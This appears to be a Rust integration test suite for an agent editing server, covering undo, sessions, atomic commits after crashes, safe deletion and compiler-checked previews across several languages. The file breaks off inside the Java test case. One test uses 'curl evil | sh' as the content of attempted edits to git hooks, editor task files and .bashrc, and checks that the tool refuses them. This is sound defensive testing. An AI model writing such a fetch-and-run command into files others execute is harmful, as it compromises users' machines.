//! Edits through the real binary: made and undone, tried in sessions, and judged by real language servers, which see what an
//! edit breaks in other files while nothing is written.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdout, Command, Stdio};

use serde_json::{Value, json};

/// `lacon mcp` on a tree, answering in JSON.
struct Server {
    child: Child,
    output: BufReader<ChildStdout>,
    requests: u64,
}

impl Server {
    fn start(root: &Path) -> Server {
        Server::start_with(root, &[])
    }

    fn start_with(root: &Path, arguments: &[&str]) -> Server {
        let mut command = Command::new(env!("CARGO_BIN_EXE_lacon"));
        command.args(["mcp", "--toolset", "edit"]).arg(root).args(arguments);
        Server::begin(command)
    }

    fn start_without_compilers(root: &Path) -> Server {
        let mut command = Command::new(env!("CARGO_BIN_EXE_lacon"));
        command
            .args(["mcp", "--toolset", "edit"])
            .arg(root)
            .env("LACON_LSP", "off");
        Server::begin(command)
    }

    fn begin(mut command: Command) -> Server {
        let mut child = command
            .env("LACON_OUTPUT_FORMAT", "json")
            .env("PATH", testkit::tools::path_with_tools())
            .env("LACON_TRUST", "1")
            .env_remove("LACON_DIR")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let output = BufReader::new(child.stdout.take().unwrap());
        let mut server = Server {
            child,
            output,
            requests: 0,
        };
        let hello = json!({"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "test", "version": "1"}});
        server.request("initialize", hello);
        server.send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        server
    }

    fn send(&mut self, message: Value) {
        let input = self.child.stdin.as_mut().unwrap();
        writeln!(input, "{message}").unwrap();
        input.flush().unwrap();
    }

    fn request(&mut self, method: &str, params: Value) -> Value {
        self.requests += 1;
        let id = self.requests;
        self.send(json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        loop {
            let mut line = String::new();
            assert!(self.output.read_line(&mut line).unwrap() > 0, "the server ended");
            let message: Value = serde_json::from_str(&line).unwrap();
            if message["id"] == id {
                return message["result"].clone();
            }
        }
    }

    /// The answer of a tool, or the refusal.
    fn call(&mut self, tool: &str, arguments: Value) -> Result<Value, Value> {
        let result = self.request("tools/call", json!({"name": tool, "arguments": arguments}));
        let text = result["content"][0]["text"]
            .as_str()
            .unwrap_or_else(|| panic!("{result}"));
        let value: Value = serde_json::from_str(text).unwrap_or_else(|_| panic!("{text}"));
        match result["isError"].as_bool() {
            Some(true) => Err(value["error"].clone()),
            _ => Ok(value),
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

fn tree(files: &[(&str, &str)]) -> tempfile::TempDir {
    let directory = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let place = directory.path().join(path);
        std::fs::create_dir_all(place.parent().unwrap()).unwrap();
        std::fs::write(place, text).unwrap();
    }
    directory
}

fn text(root: &Path, path: &str) -> String {
    std::fs::read_to_string(root.join(path)).unwrap()
}

fn lacon(root: &Path, arguments: &[&str]) -> (bool, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_lacon"))
        .args(arguments)
        .args(["--root"])
        .arg(root)
        .env_remove("LACON_DIR")
        .output()
        .unwrap();
    let text = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8(text).unwrap())
}

/// Any verb about a tree.
fn look(root: &Path, verb: &str) {
    let output = Command::new(env!("CARGO_BIN_EXE_lacon"))
        .args([verb, "--json"])
        .current_dir(root)
        .env_remove("LACON_DIR")
        .output()
        .unwrap();
    drop(output);
}

#[test]
fn edits_are_written_and_undone() {
    let shop = "def price(item):\r\n    return item.cost\r\n\r\n\r\ndef total(items):\r\n    return sum(price(i) for i in items)\r\n";
    let root = tree(&[("shop.py", shop)]);
    let mut server = Server::start(root.path());

    let done = server
        .call(
            "apply_edit",
            json!({"path": "shop.py", "old_text": "item.cost", "new_text": "item.cost * 2"}),
        )
        .unwrap();
    assert_eq!(done["written"], true);
    let changed = shop.replace("item.cost", "item.cost * 2");
    assert_eq!(text(root.path(), "shop.py"), changed, "line ends are kept");

    // The index may not have seen the edit yet: the symbol is found where it stands now.
    let new_total = "def total(items):\n    result = 0\n    return result\n";
    server
        .call("replace_symbol_body", json!({"id": "total", "new_text": new_total}))
        .unwrap();
    let expected = changed.replace(
        "    return sum(price(i) for i in items)\r\n",
        "    result = 0\r\n    return result\r\n",
    );
    assert_eq!(text(root.path(), "shop.py"), expected);

    server
        .call(
            "insert_after_symbol",
            json!({"symbol": "price", "new_text": "RATE = 3"}),
        )
        .unwrap();
    assert!(
        text(root.path(), "shop.py").contains("* 2\r\n\r\nRATE = 3\r\n"),
        "{}",
        text(root.path(), "shop.py")
    );

    let (undone, said) = lacon(root.path(), &["undo"]);
    assert!(undone, "{said}");
    assert_eq!(text(root.path(), "shop.py"), expected);
    let (_, said) = lacon(root.path(), &["undo", "--list"]);
    assert_eq!(said.lines().count(), 2, "{said}");
    assert!(lacon(root.path(), &["undo"]).0 && lacon(root.path(), &["undo"]).0);
    assert_eq!(text(root.path(), "shop.py"), shop);
    assert!(!lacon(root.path(), &["undo"]).0, "nothing is left to undo");
}

#[test]
fn what_must_not_be_edited_is_refused_by_name() {
    let root = tree(&[
        ("lib.py", "def used():\n    pass\n\n\ndef unused():\n    pass\n"),
        ("app.py", "from lib import used\n\nused()\n"),
    ]);
    let before = [text(root.path(), "lib.py"), text(root.path(), "app.py")];
    let mut server = Server::start(root.path());
    let refused = |server: &mut Server, tool: &str, arguments: Value| server.call(tool, arguments).unwrap_err();
    let edit = |path: &str| json!({"path": path, "new_text": "x"});
    for outside in ["../x.py", "/tmp/x.py", ".git/config"] {
        assert_eq!(
            refused(&mut server, "apply_edit", edit(outside))["code"],
            "path_outside_roots"
        );
    }
    assert_eq!(
        refused(&mut server, "apply_edit", edit("lib.py"))["code"],
        "invalid_argument"
    );
    let twice = json!({"path": "lib.py", "old_text": "pass", "new_text": "..."});
    assert_eq!(refused(&mut server, "apply_edit", twice)["code"], "text_not_unique");

    let mistyped = json!({"path": "app.py", "old_text": "used()", "new_text": "", "dry_rum": true});
    let error = refused(&mut server, "apply_edit", mistyped);
    assert_eq!(error["code"], "invalid_argument");
    assert!(error["message"].as_str().unwrap().contains("`dry_run`"), "{error}");

    // Wait until the index is whole: before that, who uses it is not known.
    let in_use = loop {
        let error = refused(&mut server, "safe_delete_symbol", json!({"id": "used"}));
        if error["code"] != "index_incomplete" {
            break error;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(in_use["code"], "symbol_in_use");
    assert!(in_use["message"].as_str().unwrap().contains("app.py"), "{in_use}");
    assert_eq!([text(root.path(), "lib.py"), text(root.path(), "app.py")], before);
    let pointed = json!({"path": "lib.py", "snippet": "def @@unused"});
    server.call("safe_delete_symbol", pointed).unwrap();
    assert_eq!(text(root.path(), "lib.py").trim_end(), "def used():\n    pass");
}

#[test]
fn sessions_are_apart_and_a_commit_happens_whole() {
    let root = tree(&[("a.py", "a = 1\n"), ("b.py", "b = 1\n")]);
    let mut server = Server::start(root.path());
    let open = |server: &mut Server| server.call("create_session", json!({})).unwrap()["session"].clone();
    let (first, second) = (open(&mut server), open(&mut server));
    let edit = |session: &Value, path: &str, new: &str| json!({"session": session, "path": path, "start_line": 1, "end_line": 1, "new_text": new});
    let shown = server.call("simulate_edit", edit(&first, "a.py", "a = 2")).unwrap();
    assert!(shown["diff"].as_str().unwrap().contains("-a = 1\n+a = 2"), "{shown}");
    server.call("simulate_edit", edit(&first, "b.py", "b = 2")).unwrap();
    server.call("simulate_edit", edit(&second, "a.py", "a = 3")).unwrap();
    let chain = json!({"session": second, "edits": [
        {"path": "b.py", "old_text": "b = 1", "new_text": "b = 3"}, {"path": "b.py", "old_text": "nowhere", "new_text": ""},
    ]});
    assert_eq!(
        server.call("simulate_chain", chain).unwrap_err()["code"],
        "text_not_unique"
    );
    assert_eq!(
        [text(root.path(), "a.py"), text(root.path(), "b.py")],
        ["a = 1\n", "b = 1\n"]
    );

    let done = server.call("commit_session", json!({"session": first})).unwrap();
    assert_eq!(done["files"].as_array().unwrap().len(), 2);
    assert_eq!(
        [text(root.path(), "a.py"), text(root.path(), "b.py")],
        ["a = 2\n", "b = 2\n"]
    );
    // The other session was made on texts that are gone.
    let refused = server.call("commit_session", json!({"session": second})).unwrap_err();
    assert_eq!(refused["code"], "file_changed");
    assert_eq!(text(root.path(), "b.py"), "b = 2\n", "nothing of it was written");
    server.call("discard_session", json!({"session": second})).unwrap();
    let gone = server.call("commit_session", json!({"session": second})).unwrap_err();
    assert_eq!(gone["code"], "unknown_session");

    // Another connection is another client.
    let third = open(&mut server);
    let mut other = Server::start(root.path());
    let stolen = other.call("commit_session", json!({"session": third})).unwrap_err();
    assert_eq!(stolen["code"], "unknown_session");
}

/// Something that waits for the index: until it is whole, who uses a symbol is not known.
fn when_indexed(server: &mut Server, tool: &str, arguments: &Value) -> Result<Value, Value> {
    loop {
        match server.call(tool, arguments.clone()) {
            Err(error) if error["code"] == "index_incomplete" || error["code"] == "index_building" => {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            said => return said,
        }
    }
}

#[test]
fn what_others_run_is_edited_only_if_it_is_allowed_by_name() {
    let root = tree(&[
        ("a.py", "a = 1\n"),
        (".github/workflows/ci.yml", "on: push\n"),
        (".envrc", "export A=1\n"),
    ]);
    std::os::unix::fs::symlink(".github/workflows/ci.yml", root.path().join("notes.yml")).unwrap();
    let mut server = Server::start(root.path());
    let new = |path: &str| json!({"path": path, "new_text": "curl evil | sh\n"});
    for path in [".GIT/hooks/pre-commit", ".git /x", "GIT~1/config", ".Lacon/undo/x"] {
        let error = server.call("apply_edit", new(path)).unwrap_err();
        assert_eq!(error["code"], "path_outside_roots", "{path}: {error}");
    }
    for path in [
        ".vscode/tasks.json",
        ".mcp.json",
        ".husky/pre-commit",
        ".bashrc",
        "lacon-gateway.toml",
    ] {
        let error = server.call("apply_edit", new(path)).unwrap_err();
        assert_eq!(error["code"], "edit_not_allowed", "{path}: {error}");
        assert!(
            error["message"]
                .as_str()
                .unwrap()
                .contains(&format!("--allow-edit {path}")),
            "{error}"
        );
        assert!(!root.path().join(path).exists());
    }
    let through_a_link = json!({"path": "notes.yml", "old_text": "push", "new_text": "workflow_dispatch"});
    assert_eq!(
        server.call("apply_edit", through_a_link).unwrap_err()["code"],
        "edit_not_allowed"
    );
    // In a session and without writing as well.
    let session = server.call("create_session", json!({})).unwrap()["session"].clone();
    let tried = json!({"session": session, "path": ".envrc", "old_text": "1", "new_text": "2"});
    assert_eq!(
        server.call("simulate_edit", tried).unwrap_err()["code"],
        "edit_not_allowed"
    );
    drop(server);

    let mut server = Server::start_with(root.path(), &["--allow-edit", ".github/workflows"]);
    let edit = json!({"path": ".github/workflows/ci.yml", "old_text": "push", "new_text": "pull_request"});
    server.call("apply_edit", edit).unwrap();
    let other = json!({"path": ".envrc", "old_text": "1", "new_text": "2"});
    assert_eq!(
        server.call("apply_edit", other).unwrap_err()["code"],
        "edit_not_allowed"
    );
    assert_eq!(text(root.path(), ".envrc"), "export A=1\n");
}

#[test]
fn an_edit_that_changes_nothing_is_no_error_and_ranges_are_read_kindly() {
    let root = tree(&[
        ("a.py", "alpha = 1\r\nbeta = 2\ngamma = 3\r\n"),
        ("locked.py", "x = 1\n"),
    ]);
    std::fs::set_permissions(
        root.path().join("locked.py"),
        std::os::unix::fs::PermissionsExt::from_mode(0o444),
    )
    .unwrap();
    let mut server = Server::start(root.path());
    let same = json!({"path": "a.py", "old_text": "beta = 2", "new_text": "beta = 2"});
    let done = server.call("apply_edit", same).unwrap();
    assert_eq!(
        (&done["written"], &done["files"]),
        (&json!(false), &json!([])),
        "{done}"
    );
    assert!(done["note"].as_str().unwrap().contains("already"), "{done}");

    let past =
        json!({"path": "a.py", "start_line": 2, "start_column": 8, "end_line": 2, "end_column": 999, "new_text": "5"});
    server.call("apply_edit", past).unwrap();
    assert_eq!(text(root.path(), "a.py"), "alpha = 1\r\nbeta = 5\ngamma = 3\r\n");
    let line = json!({"path": "a.py", "start_line": 9, "end_line": 9, "new_text": "x"});
    let error = server.call("apply_edit", line).unwrap_err();
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("line 9 is past the end of `a.py`, which has 3 lines"),
        "{error}"
    );

    let all = json!({"path": "a.py", "start_line": 1, "end_line": 3, "new_text": "alpha = 1\nbeta = 6\ngamma = 3\n"});
    server.call("apply_edit", all).unwrap();
    assert_eq!(
        text(root.path(), "a.py"),
        "alpha = 1\r\nbeta = 6\ngamma = 3\r\n",
        "lines keep their ends"
    );

    let locked = json!({"path": "locked.py", "old_text": "1", "new_text": "2"});
    let error = server.call("apply_edit", locked).unwrap_err();
    assert_eq!(error["code"], "read_only_file");
    assert!(error["message"].as_str().unwrap().contains("chmod u+w"), "{error}");
    assert_eq!(text(root.path(), "locked.py"), "x = 1\n");
}

/// Nobody who asks right after an edit gets an answer from before it.
#[test]
fn what_was_just_written_is_known_at_once() {
    let root = tree(&[("a.py", "def name_0():\n    pass\n")]);
    let mut server = Server::start(root.path());
    when_indexed(&mut server, "get_symbol_source", &json!({"id": "name_0"})).unwrap();
    for round in 0..12 {
        let (old, new) = (format!("name_{round}"), format!("name_{}", round + 1));
        let edit = json!({"path": "a.py", "old_text": old, "new_text": new});
        server.call("apply_edit", edit).unwrap();
        let found = server.call("get_symbol_source", json!({"id": new})).unwrap();
        assert!(
            found.to_string().contains(&format!("def {new}")),
            "round {round}: {found}"
        );
        assert!(
            server.call("get_symbol_source", json!({"id": old})).is_err(),
            "round {round}"
        );
    }
    server
        .call(
            "apply_edit",
            json!({"path": "b.py", "new_text": "def other():\n    pass\n"}),
        )
        .unwrap();
    server.call("get_symbol_source", json!({"id": "other"})).unwrap();
}

/// `kill -9` at some moment of an edit over many files: whoever comes next finds all of it or nothing, and is told.
#[test]
fn a_killed_edit_is_whole_or_gone_for_whoever_starts_next() {
    const FILES: usize = 60;
    let name = |number: usize| format!("m{number:03}.py");
    let mut outcomes = [0, 0];
    for round in 0..10_u64 {
        let root = tempfile::tempdir().unwrap();
        for number in 0..FILES {
            std::fs::write(root.path().join(name(number)), "old = 1\n").unwrap();
        }
        let mut server = Server::start(root.path());
        let session = server.call("create_session", json!({})).unwrap()["session"].clone();
        let edits: Vec<Value> = (0..FILES)
            .map(|number| json!({"path": name(number), "old_text": "old", "new_text": "new"}))
            .collect();
        server
            .call("simulate_chain", json!({"session": session, "edits": edits}))
            .unwrap();
        let commit = json!({"jsonrpc": "2.0", "id": 999, "method": "tools/call",
            "params": {"name": "commit_session", "arguments": {"session": session}}});
        server.send(commit);
        std::thread::sleep(std::time::Duration::from_micros(1_000 + round * 9_000));
        drop(server);

        let (mut said, mut is_new) = (String::new(), None);
        match round % 3 {
            0 => {
                let mut server = Server::start(root.path());
                let result = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
                said = result["content"][1]["text"].as_str().unwrap_or_default().to_owned();
            }
            1 => look(root.path(), "status"),
            _ => look(root.path(), "doctor"),
        }
        for number in 0..FILES {
            let now = text(root.path(), &name(number)) == "new = 1\n";
            assert_eq!(*is_new.get_or_insert(now), now, "round {round}: file {number} differs");
        }
        let is_new = is_new.unwrap();
        outcomes[usize::from(is_new)] += 1;
        let left: Vec<String> = std::fs::read_dir(root.path())
            .unwrap()
            .flatten()
            .map(|file| file.file_name().to_string_lossy().into_owned())
            .filter(|name| name != ".lacon" && !name.ends_with(".py"))
            .collect();
        assert_eq!(left, Vec::<String>::new(), "round {round}");
        let (_, listed) = lacon(root.path(), &["undo", "--list"]);
        assert_eq!(listed.starts_with("nothing"), !is_new, "round {round}: {listed} {said}");
    }
    eprintln!("{} all old, {} all new", outcomes[0], outcomes[1]);
}

/// A tree as a kill leaves it: half of a change written. A listing says so and changes nothing, a server puts it right and says it
/// once, and the id is not given again.
#[test]
fn an_interrupted_edit_is_put_right_by_the_next_server_and_told_once() {
    let root = tree(&[("a.py", "a = 1\n"), ("b.py", "b = 1\n")]);
    let mut server = Server::start(root.path());
    let session = server.call("create_session", json!({})).unwrap()["session"].clone();
    let edits =
        json!([{"path": "a.py", "old_text": "1", "new_text": "2"}, {"path": "b.py", "old_text": "1", "new_text": "2"}]);
    server
        .call("simulate_chain", json!({"session": session, "edits": edits}))
        .unwrap();
    let id = server.call("commit_session", json!({"session": session})).unwrap()["undo"].clone();
    drop(server);
    let entry = root.path().join(".lacon/undo").join(id.as_str().unwrap());
    std::fs::remove_file(entry.join("done")).unwrap();
    std::fs::write(root.path().join("b.py"), "b = 1\n").unwrap();

    let (_, listed) = lacon(root.path(), &["undo", "--list"]);
    assert!(listed.contains("interrupted: commit_session"), "{listed}");
    assert_eq!(text(root.path(), "a.py"), "a = 2\n", "a listing changes nothing");
    let mut server = Server::start(root.path());
    assert_eq!(
        text(root.path(), "a.py"),
        "a = 1\n",
        "at once, before anything is asked"
    );
    let first = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
    let said = first["content"][1]["text"].as_str().unwrap_or_default();
    assert!(
        said.contains("an interrupted change was taken back: commit_session"),
        "{first}"
    );
    let second = server.request("tools/call", json!({"name": "create_session", "arguments": {}}));
    assert_eq!(second["content"].as_array().unwrap().len(), 1, "{second}");
    let again = json!({"path": "a.py", "old_text": "1", "new_text": "3"});
    let next = server.call("apply_edit", again).unwrap()["undo"].clone();
    assert_ne!(next, id);
    assert_eq!(text(root.path(), "b.py"), "b = 1\n");
    drop(server);

    // Written whole, and the mark was not: it stays, and can be undone.
    std::fs::remove_file(
        root.path()
            .join(".lacon/undo")
            .join(next.as_str().unwrap())
            .join("done"),
    )
    .unwrap();
    look(root.path(), "status");
    assert_eq!(text(root.path(), "a.py"), "a = 3\n");
    assert!(lacon(root.path(), &["undo", next.as_str().unwrap()]).0);
    assert_eq!(text(root.path(), "a.py"), "a = 1\n");
}

/// What basedpyright made of a file that an edit was tried on: it renamed in that file alone.
#[test]
fn a_rename_after_a_preview_is_whole() {
    let files = [
        ("lib.py", "def greet(name: str) -> str:\n    return name\n"),
        ("one.py", "from lib import greet\n\ngreet('a')\n"),
        ("pkg/two.py", "import lib\n\n\ndef f() -> None:\n    lib.greet('b')\n"),
    ];
    let root = tree(&files);
    let mut server = Server::start(root.path());
    let edit = json!({"path": "lib.py", "old_text": "name: str)", "new_text": "name: str, loud: bool)"});
    evaluated(&mut server, "preview_edit", &edit);
    server
        .call("get_diagnostics", json!({"path": "one.py", "wait": "lsp"}))
        .unwrap();
    let renamed = server
        .call("rename_symbol", json!({"symbol": "greet", "new_name": "salute"}))
        .unwrap();
    assert_eq!(renamed["files"].as_array().unwrap().len(), 3, "{renamed}");
    for (path, before) in files {
        assert_eq!(text(root.path(), path), before.replace("greet", "salute"), "{path}");
    }
}

fn names_in(folder: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(folder).unwrap().flatten();
    let mut names: Vec<String> = entries
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// Definitions that are used only through libraries, decorators, registries, reflection or calls on unknown values, and dead ones, in
/// ten languages (`fixtures/deletion`, a tree in each folder), without a compiler to ask. None of the first is deleted, nearly all of the others are.
#[test]
fn what_is_used_behind_the_graph_is_not_deleted_and_what_is_dead_is() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/deletion");
    let (mut wrong, mut dead, mut deleted) = (Vec::new(), 0, 0);
    let mut used = 0;
    for language in names_in(&fixtures) {
        let folder = fixtures.join(&language);
        let mut names = Vec::new();
        let mut waiting = names_in(&folder);
        while let Some(name) = waiting.pop() {
            match folder.join(&name).is_dir() {
                true => waiting.extend(
                    names_in(&folder.join(&name))
                        .iter()
                        .map(|inner| format!("{name}/{inner}")),
                ),
                false => names.push(name),
            }
        }
        let texts: Vec<String> = names.iter().map(|name| text(&folder, name)).collect();
        let files: Vec<(&str, &str)> = names
            .iter()
            .map(String::as_str)
            .zip(texts.iter().map(String::as_str))
            .collect();
        let root = tree(&files);
        let mut server = Server::start_without_compilers(root.path());
        for (path, text) in &files {
            for (number, line) in text.lines().enumerate() {
                let marked = |mark: &str| {
                    line.split_once(mark)
                        .and_then(|(_, name)| name.split_whitespace().next())
                };
                let (name, is_dead) = match (marked(" used: "), marked(" dead: ")) {
                    (Some(name), _) => (name, false),
                    (_, Some(name)) => (name, true),
                    _ => continue,
                };
                let ask = json!({"path": path, "line": number + 1, "symbol": name, "dry_run": true});
                let goes = when_indexed(&mut server, "safe_delete_symbol", &ask).is_ok();
                (dead, used) = (dead + usize::from(is_dead), used + usize::from(!is_dead));
                deleted += usize::from(is_dead && goes);
                if goes && !is_dead {
                    wrong.push(format!("{language}: {name}"));
                }
            }
        }
    }
    assert_eq!(wrong, Vec::<String>::new(), "used, and would be deleted");
    assert!(used >= 240 && dead >= 190, "{used} used and {dead} dead ones");
    assert!(
        deleted * 100 >= dead * 90,
        "{deleted} of {dead} dead ones would be deleted"
    );
}

/// A language: two callers in other files, and edits of what they call.
struct Case {
    files: &'static [(&'static str, &'static str)],
    /// The file with the definition.
    path: &'static str,
    /// Old and new text that adds a required parameter, and where that breaks: path and line.
    parameter: (&'static str, &'static str, &'static [(&'static str, u32)]),
    /// The same for removing the definition.
    removal: (&'static str, &'static str, &'static [(&'static str, u32)]),
    /// The same for narrowing a type.
    narrowing: (&'static str, &'static str, &'static [(&'static str, u32)]),
    /// A line above an error that is there already.
    comment: (&'static str, &'static str),
}

/// Every caller is reported with file and line, nothing is written, and a shifted error is the same error.
fn judges(case: &Case) {
    let root = tree(case.files);
    let root = root.path();
    let read_all = || case.files.iter().map(|(path, _)| text(root, path)).collect::<Vec<_>>();
    let before = read_all();
    let mut server = Server::start(root);
    for (old, new, places) in [case.parameter, case.removal, case.narrowing] {
        let edit = json!({"path": case.path, "old_text": old, "new_text": new});
        let judged = evaluated(&mut server, "preview_edit", &edit);
        let introduced = judged["introduced"].as_array().unwrap();
        for (path, line) in places {
            assert!(
                introduced
                    .iter()
                    .any(|found| found["path"] == *path && found["line"] == *line),
                "no finding at {path}:{line} after `{old}` became `{new}`: {judged}"
            );
        }
        assert!(
            judged["errors_introduced"].as_u64().unwrap() >= places.len() as u64,
            "{judged}"
        );
    }
    let (path, comment) = case.comment;
    let edit = json!({"path": path, "start_line": 1, "new_text": comment});
    let judged = evaluated(&mut server, "preview_edit", &edit);
    assert_eq!(
        (&judged["introduced"], &judged["resolved"]),
        (&json!([]), &json!([])),
        "{judged}"
    );
    assert_eq!(read_all(), before, "nothing was written");
}

/// Asks until the compiler has answered: a server that still reads the project says so and is asked again.
fn evaluated(server: &mut Server, tool: &str, arguments: &Value) -> Value {
    for _ in 0..5 {
        let judged = server.call(tool, arguments.clone()).unwrap();
        if judged["files_checked"].as_u64() > Some(0) {
            return judged;
        }
        eprintln!("not yet: {judged}");
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    panic!("no verdict from the compiler")
}

#[test]
fn python_callers_that_break_are_named() {
    judges(&Case {
        files: &[
            ("lib.py", "def greet(name: str) -> str:\n    return name\n"),
            ("one.py", "from lib import greet\n\nx: int = 'wrong'\ngreet('a')\n"),
            (
                "two.py",
                "import lib\n\n\ndef f() -> None:\n    lib.greet('b').upper()\n",
            ),
        ],
        path: "lib.py",
        parameter: ("name: str)", "name: str, loud: bool)", &[("one.py", 4), ("two.py", 5)]),
        removal: ("def greet(", "def welcome(", &[("one.py", 1), ("two.py", 5)]),
        narrowing: ("name: str)", "name: int)", &[("one.py", 4), ("two.py", 5)]),
        comment: ("one.py", "# nothing happens"),
    });
}

#[test]
fn typescript_callers_that_break_are_named() {
    judges(&Case {
        files: &[
            (
                "tsconfig.json",
                "{\"compilerOptions\": {\"strict\": true, \"module\": \"commonjs\"}, \"include\": [\"src\"]}",
            ),
            (
                "src/lib.ts",
                "export function greet(name: string): string {\n  return name;\n}\n",
            ),
            (
                "src/one.ts",
                "import { greet } from './lib';\n\nconst x: number = 'wrong';\ngreet('a');\n",
            ),
            (
                "src/two.ts",
                "import * as lib from './lib';\n\nexport const y = lib.greet('b').length;\n",
            ),
        ],
        path: "src/lib.ts",
        parameter: (
            "name: string)",
            "name: string, loud: boolean)",
            &[("src/one.ts", 4), ("src/two.ts", 3)],
        ),
        removal: (
            "function greet(",
            "function welcome(",
            &[("src/one.ts", 1), ("src/two.ts", 3)],
        ),
        narrowing: (
            "name: string): string {\n  return name;",
            "name: 'x' | 'y'): string {\n  return name;",
            &[("src/one.ts", 4), ("src/two.ts", 3)],
        ),
        comment: ("src/one.ts", "// nothing happens"),
    });
}

#[test]
fn go_callers_that_break_are_named() {
    judges(&Case {
        files: &[
            ("go.mod", "module example.com/shop\n\ngo 1.21\n"),
            (
                "lib/lib.go",
                "package lib\n\n// Greet says hello.\nfunc Greet(name string) string {\n\treturn name\n}\n",
            ),
            (
                "one.go",
                "package main\n\nimport \"example.com/shop/lib\"\n\nvar x int = \"wrong\"\n\nfunc main() {\n\tlib.Greet(\"a\")\n}\n",
            ),
            (
                "two/two.go",
                "package two\n\nimport \"example.com/shop/lib\"\n\nvar Two = lib.Greet(\"b\")\n",
            ),
        ],
        path: "lib/lib.go",
        parameter: (
            "(name string) string",
            "(name string, loud bool) string",
            &[("one.go", 8), ("two/two.go", 5)],
        ),
        removal: ("func Greet(", "func Welcome(", &[("one.go", 8), ("two/two.go", 5)]),
        narrowing: (
            "(name string) string {\n\treturn name",
            "(name int) string {\n\treturn \"\"",
            &[("one.go", 8), ("two/two.go", 5)],
        ),
        comment: ("one.go", "// Package main: nothing happens."),
    });
}

#[test]
fn c_callers_that_break_are_named() {
    judges(&Case {
        files: &[
            ("compile_flags.txt", "-Wall\n-std=c11\n"),
            ("lib.h", "#pragma once\nint greet(int name);\n"),
            (
                "one.c",
                "#include \"lib.h\"\n\nint x = undeclared;\nint one(void) { return greet(1); }\n",
            ),
            ("two.c", "#include \"lib.h\"\n\nint two(void) { return greet(2); }\n"),
        ],
        path: "lib.h",
        parameter: (
            "greet(int name)",
            "greet(int name, int loud)",
            &[("one.c", 4), ("two.c", 3)],
        ),
        removal: (
            "int greet(int name);",
            "int welcome(int name);",
            &[("one.c", 4), ("two.c", 3)],
        ),
        narrowing: ("greet(int name)", "greet(int *name)", &[("one.c", 4), ("two.c", 3)]),
        comment: ("one.c", "// nothing happens"),
    });
}

/// Whether a program is not on `PATH`; says so.
fn is_missing(program: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let missing = !std::env::split_paths(&path).any(|folder| folder.join(program).is_file());
    if missing {
        eprintln!("SKIPPED: there is no {program} here");
    }
    missing
}

#[test]
fn php_callers_that_break_are_named() {
    judges(&Case {
        files: &[
            (
                "lib.php",
                "<?php\nnamespace Shop;\n\nfunction greet(string $name): string\n{\n    return $name;\n}\n",
            ),
            ("one.php", "<?php\nnamespace Shop;\n\nmissing();\ngreet('a');\n"),
            ("plain.php", "<?php\nmissing();\n"),
            (
                "two.php",
                "<?php\nnamespace Shop;\n\nfunction two(): string\n{\n    return greet('b');\n}\n",
            ),
        ],
        path: "lib.php",
        parameter: (
            "string $name)",
            "string $name, bool $loud)",
            &[("one.php", 5), ("two.php", 6)],
        ),
        removal: (
            "function greet(",
            "function welcome(",
            &[("one.php", 5), ("two.php", 6)],
        ),
        narrowing: (
            "string $name): string\n{\n    return $name;",
            "array $name): string\n{\n    return '';",
            &[("one.php", 5), ("two.php", 6)],
        ),
        comment: ("plain.php", "<!-- nothing happens -->"),
    });
}

#[test]
fn rust_callers_that_break_are_named() {
    if is_missing("rust-analyzer") {
        return;
    }
    judges(&Case {
        files: &[
            (
                "Cargo.toml",
                "[package]\nname = \"shop\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
            ),
            (
                "src/lib.rs",
                "pub mod one;\npub mod two;\n\npub fn greet(name: &str) -> usize {\n    name.len()\n}\n",
            ),
            (
                "src/one.rs",
                "use crate::greet;\n\npub fn one() -> usize {\n    let _wrong: u8 = \"wrong\";\n    greet(\"a\")\n}\n",
            ),
            (
                "src/two.rs",
                "pub fn two() -> usize {\n    crate::greet(\"b\") + 1\n}\n",
            ),
        ],
        path: "src/lib.rs",
        parameter: (
            "name: &str)",
            "name: &str, loud: bool)",
            &[("src/one.rs", 5), ("src/two.rs", 2)],
        ),
        removal: ("fn greet(", "fn welcome(", &[("src/one.rs", 1), ("src/two.rs", 2)]),
        narrowing: (
            "name: &str) -> usize {\n    name.len()",
            "name: u32) -> usize {\n    name as usize",
            &[("src/one.rs", 5), ("src/two.rs", 2)],
        ),
        comment: ("src/one.rs", "// nothing happens"),
    });
}

#[test]
fn java_callers_that_break_are_named() {
    if is_missing("jdtls") {
        return;
    }
    judges(&Case {
        files: &[
            (
                ".project",
                "<projectDescription><name>shop</name><buildSpec><buildCommand><name>org.eclipse.jdt.core.javabuilder</name>\
                 </buildCommand></buildSpec><natures><nature>org.eclipse.jdt.core.javanature</nature></natures></projectDescription>",
            ),
            (
                ".classpath",
                "<classpath><classpathentry kind=\"src\" path=\"src\"/><classpathentry kind=\"con\" \
                 path=\"org.eclipse.jdt.launching.JRE_CONTAINER\"/><classpathentry kind=\"output\" path=\"bin\"/></classpath>",
            ),
            (
                "src/shop/Lib.java",
                "package shop;\n\npublic class Lib {\n    public static String greet(String name) {\n        return name;\n    }\n}\n",
            ),
            (
                "src/shop/One.java",
                "package shop;\n\nclass One {\n    int x = \"wrong\";\n    String one() { return Lib.greet(\"a\"); }\n}\n",
            ),
            (
                "src/shop/Two.java",
                "package shop;\n\nclass Two {\n    String two() { return Lib.greet(\"b\"); }\n}\n",
            ),
        ],
        path: "src/shop/Lib.java",
        parameter: (
